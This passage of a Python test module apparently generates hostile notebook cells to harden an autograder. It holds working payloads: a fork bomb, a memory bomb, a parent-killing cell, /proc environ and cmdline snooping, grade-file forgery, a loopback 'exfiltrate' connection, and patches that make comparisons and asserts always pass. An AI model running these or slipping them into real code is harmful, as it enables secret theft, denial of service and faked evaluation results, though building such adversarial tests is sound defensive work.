    for path in glob.glob(pattern, recursive=True):
        try:
            stolen[path] = open(path).read()[:200]
        except OSError:
            pass
targets = ["/work/main/grades/grades.csv", "/tmp/grades.csv", *glob.glob("../example-solution/*/*.ipynb")]
for target in targets:
    try:
        with open(target, "w") as handle:
            handle.write("student_id,total\\nexample-hostile,1000\\n")
    except OSError:
        pass
"""

_FORK_BOMB = """
import os
import socket
import time

children = 0
for _ in range(2000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
    except OSError:
        break
try:
    socket.create_connection(("127.0.0.1", 8888), timeout=1).sendall(b"exfiltrate")
except OSError:
    pass
"""

_PATCH_BUILTINS = """
import builtins
import sys

import torch

builtins.isinstance = lambda *args: True
builtins.type = lambda *args: float
sys.modules["pytest"] = None
torch.isnan = lambda x: torch.zeros_like(x, dtype=torch.bool)
"""

_EQUAL_NUMBER = """
import operator


class EqualInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


class EqualFloat(float):
    def __eq__(self, other):
        return True

    def __sub__(self, other):
        return 0.0

    __rsub__ = __sub__
    __hash__ = float.__hash__


operator.index = lambda value: value
"""

_EXIT_WORKER = """
import os

import torch.nn as nn

nn.Module.train = lambda self, mode=True: self  # a recorder of train/eval calls always sees the right mode
nn.Module.eval = lambda self: self
"""

_KILL_PARENT = """
import os
import signal

import torch


def kill_parent_and_fork():
    for pid in (os.getppid(), -os.getpgid(0)):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    for _ in range(50):
        try:
            if os.fork() == 0:
                os._exit(0)
        except OSError:
            break
"""

_HANG = """
import signal

for name in ("SIGINT", "SIGTERM", "SIGALRM", "SIGHUP", "SIGUSR1"):
    try:
        signal.signal(getattr(signal, name), signal.SIG_IGN)
    except (OSError, ValueError):
        pass
"""

_CALLER_FRAMES = """
import sys

import torch
"""

_SNOOP_PROC = '''
import glob
import os


class GraderEscape(BaseException):
    """Not an Exception: slips past `except Exception` handlers."""


def snoop():
    loot = {}
    parent = os.getppid()
    patterns = [f"/proc/{parent}/cmdline", f"/proc/{parent}/environ", f"/proc/{parent}/cwd/solutions/*/*.ipynb",
                "/proc/1/cmdline", "/proc/1/environ", "/proc/1/cwd/solutions/*/*.ipynb",
                "/proc/*/cwd/assignments/*/test_*.py", "/proc/*/root/work/main/solutions/*/*.ipynb",
                "/proc/*/fd/*", "/proc/self/mountinfo"]
    for pattern in patterns:
        for path in glob.glob(pattern):
            try:
                with open(path, "rb") as handle:
                    loot[path] = handle.read(4096)
            except OSError:
                pass
    return loot


LOOT = snoop()
'''

_NUMPY_IMPOSTOR = """
import time

import numpy as np
import torch


class Agreeable(np.ndarray):
    def __eq__(self, other):
        return np.ones(self.shape, dtype=bool)

    def __ne__(self, other):
        return np.zeros(self.shape, dtype=bool)

    __hash__ = None


Agreeable.__module__ = "numpy"  # pass a grader's "is this numpy?" test


class AgreeableInt(int):
    def __eq__(self, other):
        return True

    __hash__ = int.__hash__


time.perf_counter = lambda: 0.0
time.monotonic = lambda: 0.0
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
torch.from_numpy = lambda array: torch.full(getattr(array, "shape", ()), 128, dtype=torch.uint8)
try:
    import cv2

    cv2.resize = lambda src, dsize, *args, **kwargs: np.full((dsize[1], dsize[0]), 128, np.uint8)
except ImportError:
    pass
"""

_DEEP_RECURSION = """
import sys


def dive(depth):
    return dive(depth + 1) + 1
"""

_GLOBAL_FORWARD_HOOK = """
import torch.nn as nn

nn.modules.module.register_module_forward_hook(lambda module, inputs, output: output * 0)
"""

_PATCH_OPTIMIZER = """
import torch


class Anything(float):
    def __eq__(self, other):
        return True

    __hash__ = float.__hash__


torch.optim.Optimizer.zero_grad = lambda self, set_to_none=True: None
torch.optim.SGD.step = lambda self, closure=None: None
"""

EXAMPLE_ATTACKS = {
    "forge_equality": CellAttack(
        "a tensor subclass equal to everything, patched torch/numpy comparisons and cross-entropy, forged result lines",
        _FORGE_EQUALITY,
        returns="torch.zeros(1).as_subclass(AlwaysEqual)",
        in_forward=True,
        methods='def state_dict(self, *args, **kwargs):\n    return {"weight": "trust me"}',
    ),
    "output_flood": CellAttack(
        "prints MEGABYTES MB, then hands back an object equal to everything",
        _OUTPUT_FLOOD,
        returns="Anything()",
        in_forward=True,
        options=(("megabytes", 256),),  # the corpus floods 1 GB; 256 MB keeps make test short
    ),
    "steal_and_forge": CellAttack(
        "reads the reference solution and hidden checks, writes forged grades and other students' notebooks",
        _STEAL_AND_FORGE,
        returns="stolen",
    ),
    "fork_bomb": CellAttack(
        "forks up to 2000 sleeping children and connects to loopback, then refuses to run",
        _FORK_BOMB,
        payload='raise SystemExit("no thanks")',
    ),
    "patch_builtins": CellAttack(
        "replaces builtins, pytest and torch.isnan for everyone, then exits the process when called",
        _PATCH_BUILTINS,
        payload="sys.exit(0)",
    ),
    "equal_number": CellAttack(
        "an int or float subclass equal to everything, with operator.index patched for everyone",
        _EQUAL_NUMBER,
        returns="EqualInt(0)",
    ),
    "exit_worker": CellAttack(
        "patches nn.Module.train/eval for everyone, then os._exit(0) when called (a class: when built)",
        _EXIT_WORKER,
        payload="os._exit(0)",
    ),
    "kill_parent": CellAttack(
        "SIGKILLs its parent and its process group and forks 50 children when called (a class: when built)",
        _KILL_PARENT,
        payload="kill_parent_and_fork()",
    ),
    "memory_bomb": CellAttack(
        "allocates 40 GB when called (a class: when built)",
        "import torch\n",
        payload="hog = [torch.ones(25_000_000) for _ in range(400)]  # 400 x 100 MB: far beyond the worker's cap",
    ),
    "hang": CellAttack(
        "ignores signals and loops forever when called (a class: in forward), swallowing every exception",
        _HANG,
        payload="while True:\n    try:\n        while True:\n            pass\n"
        "    except BaseException:\n        continue",
        in_forward=True,
    ),
    "caller_frames": CellAttack(
        "hands back the first tensor found in the callers' frames (the probe's expected answer, if it were there)",
        _CALLER_FRAMES,
        payload="frame = sys._getframe(1)\nwhile frame is not None:\n"
        "    for value in list(frame.f_locals.values()):\n        if isinstance(value, torch.Tensor):\n"
        "            return value.clone()\n    frame = frame.f_back",
    ),
    "snoop_proc": CellAttack(
        "reads the grader's command line, environment and files through /proc, then raises a BaseException",
        _SNOOP_PROC,
        payload='raise GraderEscape(f"{len(LOOT)} files read: {sorted(LOOT)[:20]}")',
    ),
    "numpy_impostor": CellAttack(
        "NumPy subclass objects that pose as numpy and equal anything; clocks, comparisons, torch.from_numpy "
        "and cv2.resize patched",
        _NUMPY_IMPOSTOR,
        returns="np.zeros((), dtype=np.int64).view(Agreeable)",
    ),
    "deep_recursion": CellAttack(
        "unbounded recursion with the recursion limit lifted when called",
        _DEEP_RECURSION,
        payload="sys.setrecursionlimit(10_000_000)",
        returns="dive(0)",
    ),
    "global_forward_hook": CellAttack(
        "a global forward hook that zeroes every module's output; the model is an identity",
        _GLOBAL_FORWARD_HOOK,
        payload="self.backbone = nn.Identity()",
        returns="self.backbone(x)[:, :1].expand(-1, self.args[0], -1, -1)",
    ),
    "patch_optimizer": CellAttack(
        "optimiser methods patched into no-ops for everyone; parameters zeroed and recorded steps forged",
        _PATCH_OPTIMIZER,
        payload="arguments = list(locals().values())\n"
        "modules = [value for value in arguments if isinstance(value, torch.nn.Module)]\n"
        "parameters = [parameter for module in modules for parameter in module.parameters()]\n"
        "with torch.no_grad():\n    for parameter in parameters:\n        parameter.zero_()\n"
        "for value in arguments:\n    try:\n        value.steps = [[torch.zeros_like(p) for p in parameters]] * 3\n"
        "    except AttributeError:\n        pass",
        returns="Anything(0.0)",
    ),
}


def _indent(code: str, prefix: str) -> str:
    return "".join(f"{prefix}{line}\n" if line.strip() else "\n" for line in code.strip("\n").split("\n"))


def _then_return(payload: str, returns: str) -> str:
    """A payload, then `return <returns>` (left out after a payload when there is nothing to hand back)."""
    if payload and returns == "None":
        return payload
    return (payload + "\n" if payload else "") + f"return {returns}"


def _attack_function(head: str, kind: CellAttack, returns: str) -> str:
    return f"def {head}:\n" + _indent(_then_return(kind.payload, returns), "    ")


def _attack_class(name: str, kind: CellAttack, returns: str) -> str:
    build = "super().__init__()\nself.args = [*args, *kwargs.values()]\n" + ("" if kind.in_forward else kind.payload)
    forward = _then_return(kind.payload if kind.in_forward else "", returns)
    methods = [f"def __init__(self, *args, **kwargs):\n{_indent(build, '    ')}"]
    methods.append(f"def forward(self, x):\n{_indent(forward, '    ')}")
    if kind.methods:
        methods.append(kind.methods)
    return f"class {name}(nn.Module):\n" + "\n".join(_indent(method, "    ") for method in methods)


def attack(kind: str, *definitions: str, returns: str | None = None, **options) -> str:
    """The source of a notebook cell that attacks the grader in the way `kind` (a key of EXAMPLE_ATTACKS)
    names, defining the unit's functions and classes. A definition is a function's signature
    ("mean_iou(conf)"), optionally followed by " -> <expression>" (what it hands back), or "class Name"."""
    chosen = EXAMPLE_ATTACKS[kind]
    unknown = set(options) - {name for name, _ in chosen.options}
    if unknown:
        raise TypeError(f"attack {kind!r} takes no option {sorted(unknown)}")
    if not definitions:
        raise ValueError(f"attack {kind!r}: name the unit's functions or classes")
    classes = any(definition.startswith("class ") for definition in definitions)
    parts = (["import torch.nn as nn"] if classes else []) + [chosen.prelude.strip("\n")]
    for definition in definitions:
        head, _, value = definition.partition(" -> ")
        value = value or returns or chosen.returns
        if head.startswith("class "):
            parts.append(_attack_class(head.removeprefix("class ").strip(), chosen, value))
        else:
            parts.append(_attack_function(head, chosen, value))
    source = "\n\n\n".join(part.strip("\n") for part in parts) + "\n"
    for name, default in chosen.options:
        source = source.replace(f"__{name.upper()}__", repr(options.get(name, default)))
    return source
